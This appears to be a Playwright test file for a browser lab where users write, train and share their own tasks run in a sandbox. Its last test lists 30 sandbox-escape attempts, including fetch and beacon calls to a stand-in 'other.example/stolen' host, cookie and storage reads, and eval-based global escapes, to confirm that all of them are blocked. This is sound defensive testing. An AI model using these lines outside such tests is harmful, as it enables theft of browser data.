/** A task of one's own on the built page: written, checked, warmed up, trained, shared by a link that asks; and what its code reaches. */
import { packCode, unpackCode } from '../../src/config/packedCode.ts';
import { expect, test, type Page } from '@playwright/test';
import {
  alert,
  button,
  expectState,
  fillIn,
  goTo,
  openLab,
  quick,
  quickLink,
  reaches,
  reading,
  recipe,
  setting,
} from './lab.ts';
import { inside, serveArticle } from './article.ts';
import { exportedFrom } from './exported.ts';
import { storedRun, type Row } from './stored.ts';
import { servePlainly } from './plainHost.ts';
import { bringFile, expectProved, provingLink, sandboxes } from './broughtCode.ts';

const editor = (page: Page) => page.getByRole('dialog', { name: 'Your own task' });
const checks = (page: Page) => editor(page).getByRole('region', { name: 'Checks' });

async function openEditor(page: Page): Promise<void> {
  await recipe(page)
    .getByRole('button', { name: /^(Write your own|Edit your) task$/ })
    .click();
  await expect(checks(page).getByRole('listitem')).not.toHaveCount(0, { timeout: 30_000 });
}

/** Opens code in the editor as a file. */
function openFile(page: Page, source: string): Promise<void> {
  const file = { name: 'task.js', mimeType: 'text/javascript', buffer: Buffer.from(source) };
  return editor(page).getByLabel('Open file').setInputFiles(file);
}

async function write(page: Page, source: string): Promise<void> {
  await openFile(page, source);
  await expect(checks(page)).toHaveAttribute('aria-busy', 'false', { timeout: 30_000 });
}

async function verdict(page: Page, answer: string): Promise<string> {
  await editor(page)
    .getByLabel(/^Answer to/)
    .fill(answer);
  await editor(page).getByRole('button', { name: 'Verify', exact: true }).click();
  const said = editor(page).getByLabel('Verdict');
  await expect(said).not.toHaveText('');
  return said.innerText();
}

/** Answers are 1, 2 or 3, so that a warm start is short. */
const taskWith = (verify: string, before = ''): string => `${before}
export const name = 'Copy a digit';
export const description = 'Write the digit again.';
export const levels = [{ title: 'from 100 to 399' }];
export const prompt = (random) => String(100 + random.integer(300)) + ':';
export const solution = (prompt) => prompt.slice(0, 1);
export function verify(prompt, answer) { ${verify} }
`;

test('a task is written, warmed up and trained, resumes, its link shows the code and asks, and its taught weights start arms', async ({
  page,
  context,
  browser,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await openLab(page, quickLink({ eval_every_rounds: 2 }));
  await openEditor(page);
  // Saved before its check has ended, it is kept under its own title.
  await openFile(page, taskWith('return answer === solution(prompt)'));
  await expect(editor(page).locator('.cm-content')).toContainText('Copy a digit');
  await button(page, 'Save').click();
  await expect(editor(page).getByText(/^Saved as/)).toHaveText('Saved as “Copy a digit”.');
  await expect(checks(page)).toHaveAttribute('aria-busy', 'false', { timeout: 30_000 });
  await expect(checks(page).getByText('failed')).toHaveCount(0);
  await button(page, 'Warm start').click();
  await expect(editor(page).getByText(/Warm start ended after \d+ updates, held-out pass@1/)).toBeVisible({
    timeout: 120_000,
  });
  const saved = editor(page).getByRole('combobox', { name: 'Open a task' }).getByText('Copy a digit');
  await button(page, 'Delete saved').click();
  await expect(editor(page).getByText('Deleted “Copy a digit”.')).toBeVisible();
  await expect(saved).toHaveCount(0);
  await button(page, 'Save').click();
  await expect(saved).toHaveCount(1);
  await button(page, 'Use this task').click();
  await expect(setting(page, 'Task').locator('option:checked')).toHaveText('Copy a digit (own)');
  await fillIn(page, { 'Prompts per round': '4', 'Completions per prompt': '4', 'Held-out prompts': '16' });
  await button(page, 'Run').click();
  await reaches(page, 5);
  expect(await reading(page, 'reward')).toBeGreaterThan(0);
  await button(page, 'Pause').click();
  await expectState(page, 'paused');
  const round = (await reading(page, 'round')) as number;

  await button(page, 'Copy link').click();
  await expect(recipe(page).getByRole('status', { name: 'Link' })).toHaveText('Copied');
  const link = await page.evaluate(() => navigator.clipboard.readText());
  await openLab(page);
  await button(page, 'Resume').click();
  await reaches(page, round + 2);
  await button(page, 'Pause').click();

  const other = await context.newPage();
  await other.goto(link);
  const asked = other.getByRole('dialog', { name: 'This link brings code' });
  await expect(asked).toBeVisible({ timeout: 30_000 });
  await expect(asked.getByLabel('Code of the link')).toContainText('Write the digit again.');
  expect(other.workers().filter((worker) => worker.url().includes('sandbox'))).toEqual([]);
  await button(other, 'Open the task').click();
  await expect(setting(other, 'Task').locator('option:checked')).toHaveText('Copy a digit (own)');
  await expectState(other, 'idle');

  const forged = packCode(unpackCode(new URL(link).hash).replace('Write+the+digit', 'Steal+the+digit'));
  await other.evaluate((hash) => (location.hash = hash), forged);
  await button(other, 'Open the task').click();
  await expect(alert(other)).toContainText('it was changed or shortened on its way');

  await expectSameRun(await (await browser.newContext()).newPage(), link, (await storedRun(page)).metrics);
  await expectArmsFromTaught(page, await (await browser.newContext()).newPage());
});

/** A `stranger` who has only the link repeats the warm start, and then the run, to the same numbers. */
async function expectSameRun(stranger: Page, link: string, rows: readonly Row[]): Promise<void> {
  await stranger.goto(link);
  await button(stranger, 'Open the task').click();
  await expect(recipe(stranger).getByText('from a warm start')).toBeVisible();
  await button(stranger, 'Run').click();
  await expect(stranger.getByText(/^Repeating the warm start, \d+ %/).first()).toBeVisible();
  await reaches(stranger, 4, 120_000);
  await button(stranger, 'Pause').click();
  await expectState(stranger, 'paused');
  const { metrics } = await storedRun(stranger);
  expect(metrics.slice(0, 4)).toEqual(rows.slice(0, 4));

  // Another base, chosen in the editor, replaces the warm start.
  await openEditor(stranger);
  await editor(stranger)
    .getByLabel(/^Weights of the/)
    .selectOption('fresh');
  await button(stranger, 'Use this task').click();
  await expect(recipe(stranger).getByText('from random weights')).toBeVisible();
}

/** Arms of a comparison start from the weights that were taught in this tab, and a `stranger` with the link repeats them. */
async function expectArmsFromTaught(page: Page, stranger: Page): Promise<void> {
  const panel = page.getByRole('tabpanel', { name: 'Compare' });
  const press = (name: string) => panel.getByRole('button', { name, exact: true }).click();
  await goTo(page, 'Compare');
  for (const preset of ['GRPO', 'TreePO']) await press(`Remove ${preset}`);
  await press('Add the Lab’s recipe');
  await expect(panel.getByText('tiny policy from a warm start on this task')).toBeVisible();
  await panel.getByLabel('Seeds', { exact: true }).fill('1');
  await panel.getByLabel('Budget of a run').fill('10');
  await panel.getByLabel('Budget of a run').blur();
  await press('Run');
  const state = panel.getByRole('status', { name: 'Comparison status' });
  await expect(state).toHaveAttribute('data-state', 'done', { timeout: 60_000 });
  const { arms } = await exportedFrom(page);
  // The warm start went on until 30 % of held-out prompts were right.
  expect(arms[0]?.curve[0]?.mean).toBeGreaterThan(0.05);

  await stranger.goto(page.url());
  await button(stranger, 'Open the task').click();
  const opened = stranger.getByRole('tabpanel', { name: 'Compare' });
  await opened.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(opened.getByRole('status', { name: 'Comparison status' })).toHaveAttribute(
    'data-state',
    'done',
    { timeout: 120_000 },
  );
  expect((await exportedFrom(stranger)).arms.map(({ curve }) => curve)).toEqual(
    arms.map(({ curve }) => curve),
  );
  await stranger.context().close();
}

/** Trains six rounds of a task in a browser of its own, saves the run in a file, and gives the link that proves it. */
async function trainElsewhere(page: Page, file: string): Promise<string> {
  await openLab(page, quickLink({ max_rounds: 6 }));
  await openEditor(page);
  await editor(page).getByRole('combobox', { name: 'Open a task' }).selectOption({ label: 'Add on a clock' });
  await expect(checks(page)).toHaveAttribute('aria-busy', 'false', { timeout: 30_000 });
  await editor(page)
    .getByRole('combobox', { name: /^Weights of/ })
    .selectOption('chain-sum');
  await button(page, 'Use this task').click();
  await fillIn(page, { 'Prompts per round': '4', 'Completions per prompt': '4', 'Held-out prompts': '16' });
  await button(page, 'Run').click();
  await expectState(page, 'done');
  return provingLink(page, file, 6);
}

test('a run is proved by its link, imported from a file and trained in a sandboxed widget, and each asks about the code first', async ({
  page,
  browser,
}, info) => {
  const file = info.outputPath('own.espalier');
  const link = await trainElsewhere(await (await browser.newContext()).newPage(), file);
  await expectProved(page, link, 'Open the task', 6);
  await bringFile(page, file, 'keep the remainder', 'Open the task');

  // What GitHub Pages sends, and all that a sandboxed frame needs.
  const host = await servePlainly('/espalier/', { 'Access-Control-Allow-Origin': '*' });
  const quickly = new URL(link).hash.replace(/&proof=.*/, '').replace(/max_rounds=\d+/, 'max_rounds=100');
  const article = await serveArticle(
    `<script src="${host.url}espalier.js"></script>
     <espalier-lab id="boxed" loading="eager" sandbox link="${quickly.replaceAll('&', '&amp;')}"></espalier-lab>`,
  );
  try {
    await page.goto(article.url);
    const widget = inside(page, 'boxed');
    await expect(widget.getByLabel('Code of the widget')).toContainText('keep the remainder', {
      timeout: 30_000,
    });
    const run = page.locator('#boxed').evaluate((one) =>
      (one as HTMLElement & { run(): Promise<unknown> }).run().then(
        () => 'runs',
        (error: Error) => error.message,
      ),
    );
    expect(await run).toBe('run: the reader must open the code of this widget first. Nothing of it has run.');
    expect(sandboxes(page)).toEqual([]);
    // The page around could cover the question, so a tab of its own asks it.
    await expect(widget.getByRole('button', { name: 'Open the task' })).toHaveCount(0);
    const opens = widget.getByRole('button', { name: 'Open it in a tab of its own' });
    const [tab] = await Promise.all([page.waitForEvent('popup'), opens.click()]);
    await button(tab, 'Open the task').click();
    await widget.getByRole('button', { name: 'Run' }).click();
    const status = widget.getByRole('status', { name: 'Status', exact: true });
    await expect
      .poll(async () => Number(await status.getAttribute('data-round')), { timeout: 60_000 })
      .toBeGreaterThanOrEqual(3);
  } finally {
    await article.close();
    await host.close();
  }
});

const other = 'https://other.example/stolen';

/** Each is a way out of ordinary JavaScript; it has succeeded if it does not throw and gives something. */
const attempts: Readonly<Record<string, string>> = {
  'fetch from another origin': `fetch('${other}')`,
  'fetch from this origin': `fetch('/')`,
  XMLHttpRequest: `new XMLHttpRequest().open('GET', '${other}')`,
  WebSocket: `new WebSocket('wss://other.example')`,
  EventSource: `new EventSource('${other}')`,
  sendBeacon: `navigator.sendBeacon('${other}', 'x')`,
  WebTransport: `new WebTransport('${other}')`,
  RTCPeerConnection: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:other.example' }] })`,
  Image: `new Image().src = '${other}'`,
  importScripts: `importScripts('${other}')`,
  'fetch by way of the constructor of functions': `Function('return fetch')()('${other}')`,
  'fetch by way of eval': `(0, eval)('fetch')('${other}')`,
  'the global object by way of a constructor': `(() => {}).constructor('return self')()`,
  'the host by way of an error': `(() => { try { null.x } catch (e) { return e.constructor.constructor('return self')() } })()`,
  indexedDB: `indexedDB.open('espalier')`,
  localStorage: `localStorage.length + 1`,
  sessionStorage: `sessionStorage.length + 1`,
  caches: `caches.open('x')`,
  cookies: `document.cookie + '!'`,
  'files of the origin': `navigator.storage.getDirectory()`,
  'the parent': `parent.postMessage('x', '*') ?? 1`,
  'the opener': `opener.location`,
  'the page': `document.body`,
  'a new window': `window.open('${other}')`,
  'the worker around it': `self.close() ?? 1`,
  'a message to the worker around it': `postMessage({ number: 1, answers: ['{"value":[[1,""]]}'] }) ?? 1`,
  'other tabs': `new BroadcastChannel('espalier').postMessage('x') ?? 1`,
  'a worker of its own': `new Worker('data:text/javascript,0')`,
  'the WASM around it': `WebAssembly.Module`,
  'modules of QuickJS': `[typeof std, typeof os, typeof process, typeof require, typeof Deno].find((one) => one !== 'undefined').length`,
};

test('code in the sandbox of the built page reaches nothing in 30 tries, has the numbers of Node, and a verifier that fails stops the run', async ({
  page,
}) => {
  const sought: string[] = [];
  page.on('request', (request) => sought.push(request.url()));
  await openLab(page, quickLink());
  await openEditor(page);
  const names = Object.keys(attempts);
  expect(names).toHaveLength(30);
  const tries = Object.values(attempts).map((way) => `() => ${way}`);
  const reach = `if (answer !== '9') return answer === solution(prompt);
    let tried = 0;
    const out = [];
    for (const one of tries) {
      tried++;
      try { const value = one(); if (value !== undefined && value !== globalThis) out.push(tried); } catch {}
    }
    return { reward: 0, reason: tried + ' tried, out: ' + out.join(' ') + '.' };`;
  await write(page, taskWith(reach, `const tries = [${tries.join(',\n')}];`));
  expect(await verdict(page, '9')).toBe('Reward 0: 30 tried, out: ..');
  const { origin } = new URL(page.url());
  expect(sought.filter((url) => new URL(url).origin !== origin && !url.startsWith('blob:'))).toEqual([]);

  const sum = `let sum = 0;
    for (let i = 1; i < 200; i++) sum += Math.sin(i) * Math.exp(-i / 50) + Math.pow(i, 0.37) + Math.tan(i) / 1e3;
    return { reward: 0, reason: String(sum) };`;
  await write(page, taskWith(sum));
  expect(await verdict(page, '9')).toBe('Reward 0: 1033.492206084256.');

  await write(page, taskWith('for (;;) {}'));
  await expect(checks(page)).toContainText('Verify took too many steps: it may have an endless loop (line ');
  // One that throws for an answer that the check tries cannot be used at all.
  await write(page, taskWith(`if (answer !== solution(prompt)) throw new Error('no'); return true`));
  await expect(checks(page)).toContainText('Verify threw Error: no');
  await expect(button(page, 'Use this task')).toBeDisabled();
  await write(
    page,
    taskWith(`if (/^[gh]/.test(answer)) throw new Error('no'); return answer === solution(prompt)`),
  );
  await button(page, 'Use this task').click();
  await fillIn(page, quick);
  await button(page, 'Run').click();
  await expectState(page, 'error');
  await expect(alert(page)).toContainText('Verifier failed: verify threw Error: no');
});
